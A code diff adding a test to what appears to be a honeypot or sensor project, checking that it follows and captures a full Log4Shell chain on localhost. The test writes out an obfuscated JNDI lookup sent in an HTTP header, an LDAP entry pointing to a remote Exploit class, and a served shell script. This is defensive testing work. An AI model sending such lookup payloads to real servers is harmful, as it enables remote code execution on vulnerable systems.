@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import asyncio
+import subprocess
 from pathlib import Path
 
+from eudaemon.payload.fetch.policy import FetchSettings
 from eudaemon.protocols.ldap.directory import directory_of
 from eudaemon.world.host import Host
 from eudaemon.world.seed import Seed
-from payload.directory import slapd
-from payload.servers import tool
+from payload.directory import ROOT, slapd
+from payload.servers import serving, tool
+from payload.test_fetch_jndi import REFERENCE, a_class
 from sensor.harness import SEED, events, running
 
 SEARCHES = (
@@ -34,6 +37,32 @@ SEARCHES = (
     ("-A", "(cn=admin)"),
     ("-z", "2", "(objectClass=*)"),
 )
+
+
+async def test_log4shell_all_the_way(tmp_path: Path) -> None:
+    """From a header of curl's to the directory, the class it names, and the script that the class would run."""
+    curl = tool("curl", "curl")
+    asked: list[bytes] = []
+
+    async def codebase(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        asked.append((await reader.readuntil(b"\r\n\r\n")).partition(b"\r\n")[0])
+        port = writer.get_extra_info("sockname")[1]
+        body = a_class(port) if b".class " in asked[-1] else b"#!/bin/sh\nid\n"
+        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
+
+    lab = FetchSettings(lab_networks=("127.0.0.0/8",))
+    async with serving(codebase) as web, running(tmp_path, "http", fetch=lab) as net:
+        entry = REFERENCE.format(name="o", more=f"javaCodeBase: http://127.0.0.1:{web}/\njavaFactory: Exploit\n")
+        async with slapd(tmp_path, ROOT + entry) as directory:
+            lookup = f"${{${{env:X:-j}}ndi:ldap://127.0.0.1:{directory}/cn=o,dc=lab}}"
+            process = await asyncio.create_subprocess_exec(
+                curl, "-s", "-H", f"X-Api-Version: {lookup}", f"http://127.0.0.1:{net.port}/", stdout=subprocess.DEVNULL
+            )
+            await process.wait()
+            await net.until("download.finished", count=3)
+    assert asked == [b"GET /Exploit.class HTTP/1.1", b"GET /next.sh HTTP/1.1"]
+    kept = [(event.fact.origin, event.fact.url.rpartition("/")[2]) for event in events(tmp_path, "artefact.kept")]  # type: ignore[attr-defined]
+    assert [url for origin, url in kept if origin == "download"] == ["cn=o,dc=lab", "Exploit.class", "next.sh"]
 
 
 async def test_it_answers_as_openldap_does(tmp_path: Path) -> None:
